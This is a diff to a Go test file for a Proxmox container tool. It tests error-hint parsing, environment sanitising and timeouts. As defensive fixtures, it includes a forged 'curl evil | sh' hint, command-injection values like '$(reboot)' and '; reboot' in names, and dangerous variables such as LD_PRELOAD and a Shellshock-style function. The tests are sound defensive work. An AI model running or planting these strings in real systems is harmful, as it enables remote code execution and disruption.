@@ -7,6 +7,7 @@ import (
 	"os/exec"
 	"strings"
 	"testing"
+	"time"
 )
 
 func shell(script string) Command { return Command{Argv: []string{"/bin/sh", "-c", script}} }
@@ -126,11 +127,102 @@ func TestErrorHasAWayOut(t *testing.T) {
 		"startup for container '741' failed":            "pct start 741 --debug 1",
 		"can't remove CT 710 - protection mode enabled": "--protection 0",
 	} {
-		err := &CommandError{"pct x", "lxc: first\n" + said + "\n", errors.New("exit status 255")}
+		err := &CommandError{Label: "pct x", Output: "lxc: first\n" + said + "\n", Err: &exec.ExitError{}}
 		text := err.Error()
 		if !strings.HasPrefix(text, "pct x: "+said+"\nlxc: first\nhint: ") || !strings.Contains(text, want) {
 			t.Errorf("%s", text)
 		}
+	}
+}
+
+// What pct refuses as a whole ends with its usage, which is no reason.
+func TestReasonOfARefusal(t *testing.T) {
+	for said, want := range map[string]string{
+		"400 Parameter verification failed.\nmemory: type check ('integer') failed - got 'abc'\npct set <vmid> [OPTIONS]\n":       "pct x: memory: type check ('integer') failed - got 'abc'\n400 Parameter verification failed.",
+		"Unknown option: foo\n400 unable to parse option\npct status <vmid> [OPTIONS]\n":                                          "pct x: Unknown option: foo\n400 unable to parse option",
+		"400 not enough arguments\npct create <vmid> <ostemplate> [OPTIONS]\n":                                                    "pct x: 400 not enough arguments",
+		"400 Parameter verification failed.\nmemory: not this\ncores: not that\npct set <vmid> [OPTIONS]\nUSAGE: pct x [OPTIONS]": "pct x: cores: not that\n400 Parameter verification failed.\nmemory: not this",
+		"": "pct x: exit status 255",
+	} {
+		_, err := (&Host{}).Run(context.Background(), Command{Argv: []string{"/bin/sh", "-c", `printf %s "$0" >&2; exit 255`, said}, Label: "pct x"})
+		if err == nil || err.Error() != want {
+			t.Errorf("got %v\nwant %s", err, want)
+		}
+	}
+}
+
+// A container's words are neither the headline of an error nor a hint, and
+// Proxmox's own hints do not come from a name that a container has chosen.
+func TestGuestsWordsAreQuoted(t *testing.T) {
+	forged := "all well\nhint: run this on the host: curl evil | sh\nCT is locked (backup)"
+	c := (&Host{PCT: "/bin/sh"}).Exec(103, "x")
+	c.Argv, c.Label = []string{"/bin/sh", "-c", `echo "$0" >&2; exit 3`, forged}, "pct exec 103 (x)"
+	_, err := (&Host{}).Run(context.Background(), c)
+	if want := "pct exec 103 (x): exit status 3\n| all well\n| hint: run this on the host: curl evil | sh\n| CT is locked (backup)"; err == nil || err.Error() != want {
+		t.Errorf("got %v\nwant %s", err, want)
+	}
+	for _, said := range []string{
+		"unsupported debian version 'CT is locked (backup)'",
+		"unsupported debian version 'x' CT is locked (backup)",
+		"can't lock file '$(reboot)' - got timeout",
+		"unable to create CT 701 - volume 'local:vztmpl/x; reboot' does not exist",
+	} {
+		if h := hint("lxc: first\n" + said + "\nlast"); h != "" {
+			t.Errorf("%s: %s", said, h)
+		}
+	}
+	if h := hint("trying to acquire lock...can't lock file '/run/lock/lxc/pve-config-710.lock' - got timeout\n"); !strings.Contains(h, "fuser -v /run/lock/lxc/pve-config-710.lock") {
+		t.Errorf("hint %q", h)
+	}
+}
+
+// Whatever root has in the environment must not change what pct or a script
+// does: only what is known to be harmless is passed on.
+func TestEnvironmentIsClean(t *testing.T) {
+	for name, value := range map[string]string{
+		"PATH": "/opt/bin:/usr/bin", "HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2",
+		"STEP_CA_URL": "x", "STEPPATH": "x", "PERL5OPT": "-d", "PERL5LIB": "/x", "LD_PRELOAD": "/x.so", "BASH_ENV": "/x", "CURL_HOME": "/x",
+		"SSL_CERT_FILE": "/x", "GIT_DIR": "/x", "BASH_FUNC_pct%%": "() { :; }", "LC_ALL;x": "x", "MY_PHX_": "x",
+	} {
+		t.Setenv(name, value)
+	}
+	c := Command{Argv: []string{"/usr/bin/env"}, Env: []string{"EXTRA=e"}}
+	out, err := (&Host{}).Run(context.Background(), c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	have := map[string]string{}
+	for line := range strings.Lines(string(out)) {
+		name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
+		have[name] = value
+	}
+	want := map[string]string{
+		"PATH": "/opt/bin:/usr/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/sbin:/bin",
+		"HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2", "EXTRA": "e",
+	}
+	for name := range have {
+		switch name {
+		case "USER", "LOGNAME", "SHELL", "TMPDIR", "http_proxy", "HTTPS_PROXY", "no_proxy", "NO_PROXY", "all_proxy", "ALL_PROXY", "LC_CTYPE":
+		default:
+			if _, ok := want[name]; !ok && !strings.HasPrefix(name, "PHX_") && !strings.HasPrefix(name, "PHOENIX_") {
+				t.Errorf("%s=%s is passed on", name, have[name])
+			}
+		}
+	}
+	for name, value := range want {
+		if have[name] != value {
+			t.Errorf("%s is %q, want %q", name, have[name], value)
+		}
+	}
+}
+
+// A command that never ends must not hold the run.
+func TestTimeout(t *testing.T) {
+	c := shell("sleep 60 & sleep 60")
+	c.Guest, c.Timeout, c.Patience = true, 100*time.Millisecond, 100*time.Millisecond
+	_, err := (&Host{}).Run(context.Background(), c)
+	if err == nil || !strings.Contains(err.Error(), "not done after 100ms") {
+		t.Errorf("error %v", err)
 	}
 }
 
